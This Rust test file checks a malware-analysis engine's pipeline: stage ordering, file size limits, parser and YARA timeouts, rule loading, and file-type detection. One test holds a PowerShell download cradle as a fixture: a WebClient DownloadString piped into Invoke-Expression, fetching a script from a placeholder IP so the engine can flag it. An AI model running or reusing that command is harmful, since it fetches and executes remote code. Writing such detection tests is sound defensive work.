//! Pipeline bookkeeping: stage list, limits, time budgets, rule loading.

use std::path::Path;
use std::time::Duration;

use nexus_engine::{Engine, EngineConfig, RuleSet};
use nexus_proto::report::{FileType, VerdictHint};

use crate::common::{engine, fixture};

const ALL_STAGES: &[&str] = &[
    "validate",
    "detect",
    "hashes",
    "entropy",
    "pe",
    "strings",
    "iocs",
    "yara",
    "indicators",
    "score",
];

fn stage_names(report: &nexus_engine::AnalysisReport) -> Vec<&str> {
    report
        .stages
        .iter()
        .map(|stage| stage.name.as_str())
        .collect()
}

#[test]
fn every_stage_is_timed_and_listed_in_order() {
    let report = engine().analyze(&fixture("tiny"));
    assert_eq!(stage_names(&report), ALL_STAGES);
    assert!(
        report
            .stages
            .iter()
            .all(|stage| stage.ms >= 0.0 && stage.error.is_none())
    );
    assert_eq!(
        report.schema_version,
        nexus_proto::report::REPORT_SCHEMA_VERSION
    );
}

#[test]
fn empty_files_get_hashes_and_a_validation_error() {
    let report = engine().analyze(b"");
    assert_eq!(report.stages[0].error_code.as_deref(), Some("empty_file"));
    assert_eq!(
        report.hashes.sha256,
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    );
    assert_eq!(report.verdict, VerdictHint::Unknown);
    assert_eq!(stage_names(&report), ["validate", "score"]);
}

#[test]
fn oversized_files_stop_after_validation() {
    let small = Engine::new(
        EngineConfig {
            max_file_size: 1000,
            ..EngineConfig::default()
        },
        RuleSet::empty(),
    );
    let report = small.analyze(&fixture("tiny"));
    assert_eq!(report.stages[0].error_code.as_deref(), Some("too_large"));
    assert_eq!(report.hashes.md5, "", "nothing past validation ran");
    assert_eq!(report.file.size, 32768);
    let unread = small.too_large_report(5_000_000_000);
    assert_eq!(
        (unread.file.size, unread.stages[0].error_code.as_deref()),
        (5_000_000_000, Some("too_large"))
    );
}

#[test]
fn truncated_headers_are_reported_and_the_rest_still_runs() {
    let mut bytes = fixture("tiny");
    bytes.truncate(0x100);
    let report = engine().analyze(&bytes);
    assert_eq!(
        report.stages[0].error_code.as_deref(),
        Some("truncated_header")
    );
    assert_eq!(report.file.file_type, FileType::Pe);
    assert!(!report.hashes.sha256.is_empty());
    assert_eq!(stage_names(&report), ALL_STAGES);
}

#[test]
fn a_parser_over_its_budget_leaves_a_partial_report() {
    let hurried = Engine::new(
        EngineConfig {
            parse_time_budget: Duration::ZERO,
            ..EngineConfig::default()
        },
        RuleSet::empty(),
    );
    let report = hurried.analyze(&fixture("pe_mingw"));
    let pe_stage = report
        .stages
        .iter()
        .find(|stage| stage.name == "pe")
        .unwrap();
    assert_eq!(pe_stage.error_code.as_deref(), Some("timeout"));
    assert!(report.pe.is_none());
    assert_eq!(
        report.hashes.md5, "9557c22ce09216737117d1a22f68994e",
        "other stages are unaffected"
    );
    assert_eq!(
        report.verdict,
        VerdictHint::Unknown,
        "a failed parser makes a clean result inconclusive"
    );
}

#[test]
fn rules_load_from_a_directory_with_file_stem_namespaces() {
    let dir = std::env::temp_dir().join(format!("nexus-engine-rules-{}", std::process::id()));
    std::fs::create_dir_all(dir.join("nested")).unwrap();
    std::fs::write(dir.join("strings.yar"), r#"rule has_overlay_text { meta: severity = "high" mitre_attack = "T1027.009" strings: $o = "overlay" condition: $o }"#).unwrap();
    std::fs::write(
        dir.join("nested/pe.yara"),
        "import \"pe\"\nrule is_dll { condition: pe.is_dll() }",
    )
    .unwrap();
    std::fs::write(dir.join("ignored.txt"), "not a rule").unwrap();
    let rules = RuleSet::from_dir(&dir, false).unwrap();
    assert_eq!(rules.source_count(), 2);
    let with_rules = Engine::new(EngineConfig::default(), rules);

    let report = with_rules.analyze(&fixture("tiny-overlay"));
    let hits: Vec<(&str, &str)> = report
        .yara
        .iter()
        .map(|hit| (hit.namespace.as_str(), hit.rule.as_str()))
        .collect();
    assert_eq!(hits, [("strings", "has_overlay_text")]);
    let indicator = report
        .indicators
        .iter()
        .find(|indicator| indicator.id == "yara_has_overlay_text")
        .unwrap();
    assert_eq!(indicator.mitre_attack.as_deref(), Some("T1027.009"));

    let report = with_rules.analyze(&fixture("mtxex.dll"));
    assert!(
        report
            .yara
            .iter()
            .any(|hit| (hit.namespace.as_str(), hit.rule.as_str()) == ("pe", "is_dll"))
    );

    std::fs::write(
        dir.join("broken.yar"),
        "rule broken { condition: nonsense( }",
    )
    .unwrap();
    let error = RuleSet::from_dir(&dir, false).unwrap_err();
    assert_eq!(error.code(), "yara_compile_failed");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn yara_timeouts_are_a_stage_error() {
    let slow_rule = r#"rule slow { condition: for all i in (0..filesize) : (for all j in (0..filesize) : (uint8(i) != uint8(j) or true)) }"#;
    let rules = RuleSet::from_sources([("slow", slow_rule)]).unwrap();
    let engine = Engine::new(
        EngineConfig {
            yara_timeout: Duration::from_secs(1),
            ..EngineConfig::default()
        },
        rules,
    );
    let report = engine.analyze(&fixture("pe_imports"));
    let stage = report
        .stages
        .iter()
        .find(|stage| stage.name == "yara")
        .unwrap();
    assert_eq!(
        stage.error_code.as_deref(),
        Some("yara_timeout"),
        "{stage:?}"
    );
    assert!(report.pe.is_some(), "the rest of the report survives");
}

#[test]
fn detects_scripts_and_documents_with_mime_types() {
    let script = b"$wc = New-Object Net.WebClient\nInvoke-Expression $wc.DownloadString('http://203.0.113.9/a.ps1')\n";
    let report = engine().analyze(script);
    assert_eq!(
        (report.file.file_type, report.file.mime.as_str()),
        (FileType::Script, "text/x-powershell")
    );
    assert!(
        report
            .yara
            .iter()
            .any(|hit| hit.rule == "powershell_download_cradle")
    );
    assert_eq!(report.iocs.ipv4, ["203.0.113.9"]);
    assert_eq!(report.iocs.urls, ["http://203.0.113.9/a.ps1"]);
    assert_ne!(report.verdict, VerdictHint::Benign);
}

#[test]
fn scanning_a_file_in_place_finds_what_scanning_its_bytes_finds() {
    let rules = RuleSet::from_sources([(
        "probe",
        "import \"pe\"\nrule is_dll { condition: pe.is_dll() }\nrule has_mz { strings: $mz = \"MZ\" condition: $mz at 0 }",
    )])
    .unwrap();
    let path = crate::common::fixture_path("mtxex.dll");
    let from_bytes = rules
        .scan(&std::fs::read(&path).unwrap(), Duration::from_secs(10), 8)
        .unwrap();
    let from_file = rules.scan_file(&path, Duration::from_secs(10), 8).unwrap();
    assert_eq!(from_file, from_bytes);
    let names: Vec<&str> = from_file.iter().map(|hit| hit.rule.as_str()).collect();
    assert_eq!(names, ["is_dll", "has_mz"]);
    let missing = rules.scan_file(Path::new("/nonexistent/sample"), Duration::from_secs(1), 8);
    assert_eq!(missing.unwrap_err().code(), "yara_scan_failed");
}
